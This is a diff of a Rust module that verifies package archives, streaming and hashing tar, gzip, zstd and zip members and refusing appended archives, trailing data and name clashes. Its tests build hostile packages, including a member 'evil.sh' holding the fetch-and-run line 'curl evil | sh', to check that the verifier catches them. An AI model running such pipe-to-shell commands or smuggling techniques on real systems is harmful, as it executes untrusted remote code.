@@ -1,31 +1,39 @@
 //! Verification against a package: a tar, tar.gz, tar.zst or zip archive holding the
 //! bundle document (`bundle.json` or `bundle.yaml`) at its root and the sources under it.
 //!
-//! Members are hashed while they stream; nothing is extracted to disk. Sizes are
-//! bounded before anything is inflated where the format says them up front (zip's
-//! central directory, tar headers), and counted as they inflate otherwise. Members
-//! with absolute paths, `..`, links, devices or repeated names are never followed.
+//! Members are hashed while they stream; nothing is extracted to disk. A package is
+//! read exactly as its extractors read it (GNU tar, Python's `tarfile` and `zipfile`,
+//! `unzip`), or refused: every gzip member and zstd frame, nothing after the tar
+//! end-of-archive marker, a zip checked whole before it inflates (`tar_format`,
+//! `zip_format`, `streams`). Sizes are bounded before anything is inflated where the
+//! format says them up front (zip's central directory, tar headers), and counted as
+//! they inflate otherwise. Members with absolute paths, `..`, links, devices or
+//! repeated names are never followed.
 
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
+use std::fmt;
 use std::fs::File;
-use std::io::{self, BufReader, Read, Seek};
+use std::io::{self, BufReader, Read, Seek, Write};
 use std::path::Path;
 
 use super::hashing::sha256_reader;
-use super::imports::sibling_imports;
-use super::root::normalize;
-use super::{compare, violation, Declared, Found};
+use super::imports::ImportScanner;
+use super::root::{normalize, not_regular};
+use super::streams::{GzipMembers, ZstdFrames};
+use super::{compare, tar_format, violation, zip_format, Declared, Found};
 use crate::kinds::spec_bundle::supporting_path;
 use crate::report::{Severity, Violation};
+use rustix::fs::{Mode, OFlags};
 
 pub const BUNDLE_NAMES: [&str; 3] = ["bundle.json", "bundle.yaml", "bundle.yml"];
-const MAX_SCANNED_HELPER: u64 = 4 << 20;
 
 #[derive(Clone, Copy, Debug)]
 pub struct PackageLimits {
     /// The most bytes all members may hold together, inflated.
     pub max_bytes: u64,
     pub max_members: usize,
+    /// The bundle document is a document: held in memory, so bounded as one.
+    pub max_bundle_bytes: u64,
 }
 
 impl Default for PackageLimits {
@@ -33,6 +41,7 @@ impl Default for PackageLimits {
         PackageLimits {
             max_bytes: 1 << 30,
             max_members: 100_000,
+            max_bundle_bytes: crate::document::DEFAULT_MAX_BYTES as u64,
         }
     }
 }
@@ -40,6 +49,7 @@ impl Default for PackageLimits {
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum MemberKind {
     Regular,
+    Directory,
     Link,
     Device,
     Other,
@@ -50,8 +60,8 @@ pub struct Member {
     pub name: String,
     pub kind: MemberKind,
     pub found: Option<Found>,
-    /// The text of small Python helpers, for the import-closure check.
-    pub text: Option<String>,
+    /// The sibling modules a Python helper imports, for the import-closure check.
+    pub imports: Vec<String>,
 }
 
 /// What a package holds: its bundle document (if any) and every other member.
@@ -68,6 +78,7 @@ pub struct Contents {
 pub enum PackageError {
     /// Too large or too many members: refused before being inflated further.
     Size(String),
+    /// Not an archive, torn, or laid out so that its readers could disagree.
     Unreadable(String),
 }
 
@@ -90,40 +101,95 @@ impl PackageError {
     }
 }
 
-fn unreadable(path: &Path, e: impl std::fmt::Display) -> PackageError {
-    PackageError::Unreadable(format!(
-        "the package {} cannot be read: {e}",
-        path.display()
-    ))
+/// Why a format reader refuses a package, as a phrase that follows "the package <path>".
+/// It travels inside `io::Error` through the decompressors and member readers.
+#[derive(Debug)]
+pub(crate) struct Refusal(pub(crate) String);
+
+impl fmt::Display for Refusal {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0)
+    }
 }
 
-/// Called for every member but directories: its raw name, kind, declared size and content.
+impl std::error::Error for Refusal {}
+
+pub(crate) fn refusal(why: impl Into<String>) -> io::Error {
+    io::Error::other(Refusal(why.into()))
+}
+
+pub(crate) fn refused(path: &Path, why: impl fmt::Display) -> PackageError {
+    PackageError::Unreadable(format!("the package {} {why}", path.display()))
+}
+
+/// An error met while reading the package: a refusal says what is wrong with it.
+pub(crate) fn read_error(path: &Path, e: io::Error) -> PackageError {
+    if let Some(Refusal(why)) = e.get_ref().and_then(|i| i.downcast_ref::<Refusal>()) {
+        return refused(path, why);
+    }
+    if e.kind() == io::ErrorKind::UnexpectedEof {
+        return refused(path, format_args!("is truncated: {e}"));
+    }
+    refused(path, format_args!("cannot be read: {e}"))
+}
+
+/// Called for every member, directories included: its raw name, kind, declared size
+/// and content.
 pub type Visitor<'v> =
     dyn FnMut(&str, MemberKind, u64, &mut dyn Read) -> Result<(), PackageError> + 'v;
 
-/// Streams every member of the archive at `path` through `visit`, once, in order.
+/// The archive opened for reading if it is a regular file: the open does not block,
+/// so a FIFO named as a package cannot hang the gate, and a device is never read.
+fn open_regular(path: &Path) -> Result<File, PackageError> {
+    let flags = OFlags::RDONLY | OFlags::NONBLOCK | OFlags::CLOEXEC | OFlags::NOCTTY;
+    let fd =
+        rustix::fs::open(path, flags, Mode::empty()).map_err(|e| read_error(path, e.into()))?;
+    let stat = rustix::fs::fstat(&fd).map_err(|e| read_error(path, e.into()))?;
+    if let Some(what) = not_regular(&stat) {
+        return Err(refused(
+            path,
+            format_args!("cannot be read: it is {what}, not a regular file"),
+        ));
+    }
+    rustix::fs::fcntl_setfl(&fd, OFlags::empty()).map_err(|e| read_error(path, e.into()))?;
+    Ok(File::from(fd))
+}
+
+/// Streams every member of the archive at `path` through `visit`, once, in order, and
+/// refuses the archive (after the members it already streamed, for tars) where its
+/// extractors could read anything else.
 pub fn visit(
     path: &Path,
     limits: &PackageLimits,
     visit: &mut Visitor<'_>,
 ) -> Result<(), PackageError> {
-    let mut file = File::open(path).map_err(|e| unreadable(path, e))?;
+    let file = open_regular(path)?;
+    let len = file.metadata().map_err(|e| read_error(path, e))?.len();
     let mut magic = [0u8; 262];
-    let n = read_up_to(&mut file, &mut magic).map_err(|e| unreadable(path, e))?;
-    file.rewind().map_err(|e| unreadable(path, e))?;
+    let n = read_up_to(&mut &file, &mut magic)
+        .and_then(|n| (&file).rewind().map(|()| n))
+        .map_err(|e| read_error(path, e))?;
     let magic = &magic[..n];
     if magic.starts_with(b"PK\x03\x04") || magic.starts_with(b"PK\x05\x06") {
-        return visit_zip(path, file, limits, visit);
+        return zip_format::visit(path, &file, limits, visit);
+    }
+    let zip = zip_format::zip_inside(&file, len).map_err(|e| read_error(path, e))?;
+    let tar = magic.len() >= 262 && &magic[257..262] == b"ustar";
+    let compressed =
+        magic.starts_with(&[0x1f, 0x8b]) || magic.starts_with(&[0x28, 0xb5, 0x2f, 0xfd]);
+    match zip {
+        Some(at) if tar || compressed => return Err(refused(path, format_args!("is also a zip archive (a zip end record sits at byte {at}), which zip readers would extract instead; rebuild it as one archive with nothing appended"))),
+        Some(_) => return Err(refused(path, "holds a zip archive after data that is not part of it (data prepended to the zip); a package is one archive from its first byte")),
+        None => {}
     }
     let reader = BufReader::with_capacity(1 << 20, file);
     if magic.starts_with(&[0x1f, 0x8b]) {
-        visit_tar(path, flate2::read::GzDecoder::new(reader), visit)
+        tar_format::visit(path, GzipMembers::new(reader), limits, visit)
     } else if magic.starts_with(&[0x28, 0xb5, 0x2f, 0xfd]) {
-        let decoder =
-            zstd::stream::read::Decoder::with_buffer(reader).map_err(|e| unreadable(path, e))?;
-        visit_tar(path, decoder, visit)
-    } else if magic.len() >= 262 && &magic[257..262] == b"ustar" {
-        visit_tar(path, reader, visit)
+        let frames = ZstdFrames::new(reader).map_err(|e| read_error(path, e))?;
+        tar_format::visit(path, frames, limits, visit)
+    } else if tar {
+        tar_format::visit(path, reader, limits, visit)
     } else {
         Err(PackageError::Unreadable(format!(
             "{} is not a tar, tar.gz, tar.zst or zip archive",
@@ -134,13 +200,16 @@ pub fn visit(
 
 pub fn read(path: &Path, limits: &PackageLimits) -> Result<Contents, PackageError> {
     let mut c = Collector {
+        path,
         contents: Contents::default(),
         seen: HashMap::new(),
+        directories: HashSet::new(),
+        entries: 0,
         total: 0,
         limits,
     };
     visit(path, limits, &mut |raw, kind, size, reader| {
-        let Some(name) = c.admit(raw, size)? else {
+        let Some(name) = c.admit(raw, kind, size)? else {
             return Ok(());
         };
         match kind {
@@ -150,43 +219,56 @@ pub fn read(path: &Path, limits: &PackageLimits) -> Result<Contents, PackageErro
                     name,
                     kind,
                     found: None,
-                    text: None,
+                    imports: Vec::new(),
                 });
                 Ok(())
             }
         }
     })?;
+    c.conflicts();
     Ok(c.contents)
 }
 
 fn read_up_to(r: &mut impl Read, buf: &mut [u8]) -> io::Result<usize> {
     let mut n = 0;
     while n < buf.len() {
-        match r.read(&mut buf[n..])? {
-            0 => break,
-            k => n += k,
+        match r.read(&mut buf[n..]) {
+            Ok(0) => break,
+            Ok(k) => n += k,
+            Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
+            Err(e) => return Err(e),
         }
     }
     Ok(n)
 }
 
-/// Accepts a member name, or says why not: the same rules as a declared path.
+/// Accepts a member name, or says why not: the same rules as a declared path. `./a`,
+/// `a//b` and `a/./b` name `a` and `a/b`, as every extractor writes them.
 fn member_name(raw: &str) -> Result<String, String> {
-    let name = raw.strip_prefix("./").unwrap_or(raw);
-    supporting_path(name).map_err(|why| format!("the package member {raw:?} {why}"))?;
-    Ok(normalize(name))
+    supporting_path(raw).map_err(|why| format!("the package member {raw:?} {why}"))?;
+    Ok(normalize(raw))
 }
 
 struct Collector<'a> {
+    path: &'a Path,
     contents: Contents,
     seen: HashMap<String, usize>,
+    /// Directories, stated or implied by a member's path.
+    directories: HashSet<String>,
+    entries: usize,
     total: u64,
     limits: &'a PackageLimits,
 }
 
 impl Collector<'_> {
-    fn admit(&mut self, raw: &str, declared_size: u64) -> Result<Option<String>, PackageError> {
-        if self.contents.members.len() + self.contents.violations.len() >= self.limits.max_members {
+    fn admit(
+        &mut self,
+        raw: &str,
+        kind: MemberKind,
+        declared_size: u64,
+    ) -> Result<Option<String>, PackageError> {
+        self.entries += 1;
+        if self.entries > self.limits.max_members {
             return Err(PackageError::Size(format!(
                 "the package holds more than {} members",
                 self.limits.max_members
@@ -199,22 +281,34 @@ impl Collector<'_> {
                 self.limits.max_bytes
             )));
         }
+        if kind == MemberKind::Directory {
+            match member_name(raw) {
+                Ok(n) if n.is_empty() => {} // the package's own root, `./`
+                Ok(n) => self.directory(&n),
+                Err(why) => self.path_violation(why),
+            }
+            return Ok(None);
+        }
         let name = match member_name(raw) {
+            Ok(n) if n.is_empty() => {
+                self.path_violation(format!("the package member {raw:?} names no file"));
+                return Ok(None);
+            }
             Ok(n) => n,
             Err(why) => {
-                self.contents.violations.push(violation(
-                    "/execution/supporting_files".into(),
-                    "tao.supporting_file.path",
-                    why,
-                ));
+                self.path_violation(why);
                 return Ok(None);
             }
         };
-        if self
-            .seen
-            .insert(name.clone(), self.contents.members.len())
-            .is_some()
-        {
+        if let Some(first) = self.bundle_name(&name) {
+            self.contents.violations.push(violation(
+                "/execution/supporting_files".into(),
+                "tao.supporting_file.undeclared",
+                format!("the package holds both {first} and {name}; a package holds exactly one bundle document, and {first} is the one checked"),
+            ));
+            return Ok(None);
+        }
+        if self.seen.insert(name.clone(), self.entries).is_some() {
             self.contents.violations.push(violation(
                 "/execution/supporting_files".into(),
                 "tao.supporting_file.undeclared",
@@ -222,7 +316,56 @@ impl Collector<'_> {
             ));
             return Ok(None);
         }
+        if let Some(slash) = name.rfind('/') {
+            self.directory(&name[..slash]);
+        }
         Ok(Some(name))
+    }
+
+    /// Records a directory and every directory above it.
+    fn directory(&mut self, name: &str) {
+        let mut dir = name;
+        loop {
+            self.directories.insert(dir.to_string());
+            match dir.rfind('/') {
+                Some(slash) => dir = &dir[..slash],
+                None => return,
+            }
+        }
+    }
+
+    /// The bundle document already found, when `name` is another one.
+    fn bundle_name(&self, name: &str) -> Option<String> {
+        if !BUNDLE_NAMES.contains(&name) {
+            return None;
+        }
+        let (first, _) = self.contents.bundle.as_ref()?;
+        (first != name).then(|| first.clone())
+    }
+
+    fn path_violation(&mut self, why: String) {
+        self.contents.violations.push(violation(
+            "/execution/supporting_files".into(),
+            "tao.supporting_file.path",
+            why,
+        ));
+    }
+
+    /// A name held both as a file and as a directory: extractors keep one or fail.
+    fn conflicts(&mut self) {
+        let mut clashes: Vec<&String> = self
+            .seen
+            .keys()
+            .filter(|n| self.directories.contains(n.as_str()))
+            .collect();
+        clashes.sort();
+        for name in clashes {
+            self.contents.violations.push(violation(
+                "/execution/supporting_files".into(),
+                "tao.supporting_file.undeclared",
+                format!("the package holds {name} both as a file and as a directory; an extractor would keep only one of them"),
+            ));
+        }
     }
 
     fn regular(
@@ -231,102 +374,47 @@ impl Collector<'_> {
         reader: &mut dyn Read,
         size_limit: u64,
     ) -> Result<(), PackageError> {
+        let path = self.path;
+        let member_error = |e: io::Error| match e.kind() {
+            io::ErrorKind::InvalidData if e.get_ref().is_some_and(|i| !i.is::<Refusal>()) => {
+                PackageError::Size(format!(
+                    "the package member {name} holds more than it declares"
+                ))
+            }
+            _ if e.get_ref().is_some_and(|i| i.is::<Refusal>()) => read_error(path, e),
+            _ => refused(
+                path,
+                format_args!("cannot be read at its member {name}: {e}"),
+            ),
+        };
         if BUNDLE_NAMES.contains(&name.as_str()) {
+            if size_limit > self.limits.max_bundle_bytes {
+                return Err(PackageError::Size(format!(
+                    "the package's {name} is {size_limit} bytes, over the limit of {} bytes for a document (limits.max_document_bytes)",
+                    self.limits.max_bundle_bytes
+                )));
+            }
             let mut data = Vec::new();
             reader
-                .take(size_limit + 1)
+                .take(size_limit.saturating_add(1))
                 .read_to_end(&mut data)
-                .map_err(|e| {
-                    PackageError::Unreadable(format!("the package's {name} cannot be read: {e}"))
-                })?;
+                .map_err(member_error)?;
             self.contents.bundle = Some((name, data));
             return Ok(());
         }
-        let is_python = name.ends_with(".py");
-        let mut text = Vec::new();
-        let sink: Option<&mut dyn io::Write> = if is_python { Some(&mut text) } else { None };
-        let (sha256, size) =
-            sha256_reader(reader, size_limit, sink).map_err(|e| match e.kind() {
-                io::ErrorKind::InvalidData => PackageError::Size(format!(
-                    "the package member {name} holds more than it declares"
-                )),
-                _ => PackageError::Unreadable(format!(
-                    "the package member {name} cannot be read: {e}"
-                )),
-            })?;
-        let text = (is_python && size <= MAX_SCANNED_HELPER)
-            .then(|| String::from_utf8_lossy(&text).into_owned());
+        // Python helpers stream through the import scanner as they are hashed.
+        let mut scanner = name.ends_with(".py").then(ImportScanner::default);
+        let sink = scanner.as_mut().map(|s| s as &mut dyn Write);
+        let (sha256, size) = sha256_reader(reader, size_limit, sink).map_err(member_error)?;
+        let imports = scanner.map(ImportScanner::finish).unwrap_or_default();
         self.contents.members.push(Member {
             name,
             kind: MemberKind::Regular,
             found: Some(Found { sha256, size }),
-            text,
+            imports,
         });
         Ok(())
     }
-}
-
-fn visit_tar(path: &Path, reader: impl Read, visit: &mut Visitor<'_>) -> Result<(), PackageError> {
-    let mut archive = tar::Archive::new(reader);
-    for entry in archive.entries().map_err(|e| unreadable(path, e))? {
-        let mut entry = entry.map_err(|e| unreadable(path, e))?;
-        let t = entry.header().entry_type();
-        if t.is_dir()
-            || t.is_pax_global_extensions()
-            || t.is_pax_local_extensions()
-            || t.is_gnu_longname()
-            || t.is_gnu_longlink()
-        {
-            continue;
-        }
-        let raw = String::from_utf8_lossy(&entry.path_bytes()).into_owned();
-        let size = entry.header().size().map_err(|e| unreadable(path, e))?;
-        let kind = if t.is_file() || t == tar::EntryType::Continuous {
-            MemberKind::Regular
-        } else if t.is_symlink() || t.is_hard_link() {
-            MemberKind::Link
-        } else if t.is_character_special() || t.is_block_special() || t.is_fifo() {
-            MemberKind::Device
-        } else {
-            MemberKind::Other
-        };
-        visit(&raw, kind, size, &mut entry)?;
-    }
-    Ok(())
-}
-
-fn visit_zip(
-    path: &Path,
-    file: File,
-    limits: &PackageLimits,
-    visit: &mut Visitor<'_>,
-) -> Result<(), PackageError> {
-    let mut archive =
-        zip::ZipArchive::new(BufReader::new(file)).map_err(|e| unreadable(path, e))?;
-    // The central directory states every size: a bomb is refused before one byte inflates.
-    let mut declared_total = 0u64;
-    for i in 0..archive.len() {
-        let entry = archive.by_index_raw(i).map_err(|e| unreadable(path, e))?;
-        declared_total = declared_total.saturating_add(entry.size());
-    }
-    if declared_total > limits.max_bytes {
-        return Err(PackageError::Size(format!("the package declares {declared_total} bytes of members, over the limit of {}; refused before inflating it", limits.max_bytes)));
-    }
-    for i in 0..archive.len() {
-        let mut entry = archive.by_index(i).map_err(|e| unreadable(path, e))?;
-        if entry.is_dir() {
-            continue;
-        }
-        let raw = entry.name().map_err(|e| unreadable(path, e))?.into_owned();
-        let size = entry.size();
-        let kind = match entry.unix_mode().unwrap_or(0o100644) & 0o170000 {
-            0o120000 => MemberKind::Link,
-            0o020000 | 0o060000 | 0o010000 => MemberKind::Device,
-            _ => MemberKind::Regular,
-        };
-        visit(&raw, kind, size, &mut entry)?;
-    }
-    Ok(())
 }
 
 /// Compares the package's members with the declared set: every source present, a
@@ -376,9 +464,9 @@ pub fn compare_members(
                 continue;
             }
         }
-        if let Some(text) = &m.text {
+        {
             let dir = d.source.rfind('/').map_or("", |p| &d.source[..=p]);
-            for module in sibling_imports(text) {
+            for module in &m.imports {
                 for rel in [
                     format!("{dir}{module}.py"),
                     format!("{dir}{module}/__init__.py"),
@@ -414,4 +502,200 @@ pub fn compare_members(
         }
     }
     (out, found)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::files::hashing::sha256_bytes;
+    use crate::files::tar_format::tests::{end, entry};
+    use std::io::Write;
+
+    fn gzip(data: &[u8]) -> Vec<u8> {
+        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        e.write_all(data).unwrap();
+        e.finish().unwrap()
+    }
+
+    fn tar(members: &[(&str, &[u8])], with_end: bool) -> Vec<u8> {
+        let mut out = Vec::new();
+        for (name, data) in members {
+            out.extend(entry(name.as_bytes(), b'0', data));
+        }
+        if with_end {
+            out.extend(end());
+        }
+        out
+    }
+
+    fn read_bytes(name: &str, bytes: &[u8]) -> Result<Contents, String> {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join(name);
+        std::fs::write(&path, bytes).unwrap();
+        read(&path, &PackageLimits::default()).map_err(|e| e.into_violation().message)
+    }
+
+    fn refusal_of(name: &str, bytes: &[u8]) -> String {
+        match read_bytes(name, bytes) {
+            Ok(c) => panic!("read, not refused: {:?}", c.members),
+            Err(why) => why,
+        }
+    }
+
+    fn declared(source: &str, data: &[u8]) -> Declared {
+        Declared {
+            index: 0,
+            source: source.into(),
+            destination: source.into(),
+            sha256: sha256_bytes(data),
+        }
+    }
+
+    fn messages(c: &Contents, declared: &[Declared]) -> Vec<(&'static str, String)> {
+        compare_members(c, declared)
+            .0
+            .into_iter()
+            .map(|v| (v.rule, v.message))
+            .collect()
+    }
+
+    const HELPER: &[u8] = b"print('helper')\n";
+
+    #[test]
+    fn a_second_gzip_member_is_read_and_its_members_judged() {
+        // The first member ends without an end-of-archive marker: GNU tar and tarfile
+        // read straight on into the second, which replaces helper.py and adds evil.sh.
+        let mut bytes = gzip(&tar(
+            &[("bundle.json", b"{}"), ("helper.py", HELPER)],
+            false,
+        ));
+        bytes.extend(gzip(&tar(
+            &[
+                ("helper.py", b"import os\n"),
+                ("evil.sh", b"curl evil | sh\n"),
+            ],
+            true,
+        )));
+        let c = read_bytes("p.tar.gz", &bytes).unwrap();
+        let m = messages(&c, &[declared("helper.py", HELPER)]);
+        assert_eq!(m.len(), 2, "{m:?}");
+        assert!(m[0].1.contains("helper.py more than once"));
+        assert!(m[1].1.contains("evil.sh"));
+        assert!(m
+            .iter()
+            .all(|(rule, _)| *rule == "tao.supporting_file.undeclared"));
+
+        // With its marker, the second member is data after the end: refused.
+        let mut bytes = gzip(&tar(&[("bundle.json", b"{}")], true));
+        bytes.extend(gzip(&tar(&[("evil.sh", b"x")], true)));
+        assert!(refusal_of("p.tar.gz", &bytes).contains("after its tar end-of-archive marker"));
+    }
+
+    #[test]
+    fn garbage_after_the_last_gzip_member_is_refused() {
+        let mut bytes = gzip(&tar(&[("bundle.json", b"{}")], true));
+        bytes.extend_from_slice(b"trailing garbage");
+        let why = refusal_of("p.tar.gz", &bytes);
+        assert!(
+            why.starts_with("the package ") && why.contains("after gzip member 1"),
+            "{why}"
+        );
+    }
+
+    #[test]
+    fn a_tar_split_over_zstd_frames_with_a_skippable_frame_reads_whole() {
+        let whole = tar(&[("bundle.json", b"{}"), ("helper.py", HELPER)], true);
+        let (a, b) = whole.split_at(700);
+        let mut bytes = zstd::encode_all(a, 3).unwrap();
+        bytes.extend_from_slice(&[0x50, 0x2a, 0x4d, 0x18, 2, 0, 0, 0, 0xaa, 0xbb]);
+        bytes.extend(zstd::encode_all(b, 3).unwrap());
+        let c = read_bytes("p.tar.zst", &bytes).unwrap();
+        assert!(messages(&c, &[declared("helper.py", HELPER)]).is_empty());
+        assert_eq!(c.bundle.as_ref().map(|b| b.0.as_str()), Some("bundle.json"));
+
+        let mut bytes = zstd::encode_all(&tar(&[("helper.py", HELPER)], false)[..], 3).unwrap();
+        bytes.extend(zstd::encode_all(&tar(&[("evil.sh", b"x")], true)[..], 3).unwrap());
+        let c = read_bytes("p.tar.zst", &bytes).unwrap();
+        assert!(c.members.iter().any(|m| m.name == "evil.sh"));
+    }
+
+    #[test]
+    fn a_tar_with_a_zip_appended_is_refused() {
+        let mut bytes = tar(&[("bundle.json", b"{}")], true);
+        // an empty zip: the end record alone, which zipfile opens
+        bytes.extend_from_slice(b"PK\x05\x06");
+        bytes.extend_from_slice(&[0; 18]);
+        assert!(refusal_of("p.tar", &bytes).contains("is also a zip archive"));
+        let mut gz = gzip(&tar(&[("bundle.json", b"{}")], true));
+        gz.extend_from_slice(&bytes[bytes.len() - 22..]);
+        assert!(refusal_of("p.tar.gz", &gz).contains("is also a zip archive"));
+        let mut prefixed = b"MZ not an archive".to_vec();
+        prefixed.extend_from_slice(&bytes[bytes.len() - 22..]);
+        assert!(refusal_of("p.zip", &prefixed).contains("data prepended"));
+    }
+
+    #[test]
+    fn exactly_one_bundle_document() {
+        let bytes = tar(&[("bundle.yaml", b"a: 1\n"), ("bundle.json", b"{}")], true);
+        let c = read_bytes("p.tar", &bytes).unwrap();
+        assert_eq!(c.bundle.as_ref().map(|b| b.0.as_str()), Some("bundle.yaml"));
+        let m = messages(&c, &[]);
+        assert_eq!(m.len(), 1);
+        assert_eq!(m[0].0, "tao.supporting_file.undeclared");
+        assert!(
+            m[0].1.contains("bundle.yaml and bundle.json")
+                && m[0].1.contains("exactly one bundle document"),
+            "{}",
+            m[0].1
+        );
+    }
+
+    #[test]
+    fn duplicates_are_found_after_normalizing() {
+        let bytes = tar(
+            &[
+                ("scripts/a.py", HELPER),
+                ("./scripts//a.py", b"evil"),
+                ("./b", b""),
+            ],
+            true,
+        );
+        let c = read_bytes("p.tar", &bytes).unwrap();
+        let m = messages(&c, &[declared("scripts/a.py", HELPER), declared("b", b"")]);
+        assert_eq!(m.len(), 1, "{m:?}");
+        assert!(m[0].1.contains("scripts/a.py more than once"));
+    }
+
+    #[test]
+    fn a_name_held_as_a_file_and_a_directory_is_refused() {
+        let mut bytes = entry(b"a/", b'5', b"");
+        bytes.extend(entry(b"a", b'0', b"x"));
+        bytes.extend(entry(b"b", b'0', b"x"));
+        bytes.extend(entry(b"b/c", b'0', b"x"));
+        bytes.extend(end());
+        let c = read_bytes("p.tar", &bytes).unwrap();
+        let clashes: Vec<_> = c
+            .violations
+            .iter()
+            .filter(|v| v.message.contains("both as a file and as a directory"))
+            .collect();
+        assert_eq!(clashes.len(), 2, "{:?}", c.violations);
+    }
+
+    #[test]
+    fn a_large_helper_is_hashed_and_scanned_whole() {
+        let mut big = vec![b'#'; 5 << 20];
+        big.extend_from_slice(b"\nimport sibling\n");
+        let c = read_bytes(
+            "p.tar",
+            &tar(&[("big.py", &big), ("small.py", HELPER)], true),
+        )
+        .unwrap();
+        assert_eq!(c.members[0].imports, ["sibling"]);
+        assert_eq!(
+            c.members[0].found.as_ref().map(|f| f.sha256.clone()),
+            Some(sha256_bytes(&big))
+        );
+        assert!(c.members[1].imports.is_empty());
+    }
 }
